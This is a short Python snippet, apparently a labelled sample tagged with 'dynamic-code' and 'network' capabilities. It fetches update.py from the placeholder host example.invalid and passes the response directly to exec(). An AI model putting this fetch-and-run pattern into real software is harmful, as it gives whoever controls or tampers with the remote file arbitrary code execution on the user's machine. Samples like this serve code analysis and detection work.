# capabilities: dynamic-code, network; hidden by: nothing
from urllib.request import urlopen

with urlopen("http://example.invalid/update.py") as answer:
    exec(answer.read())
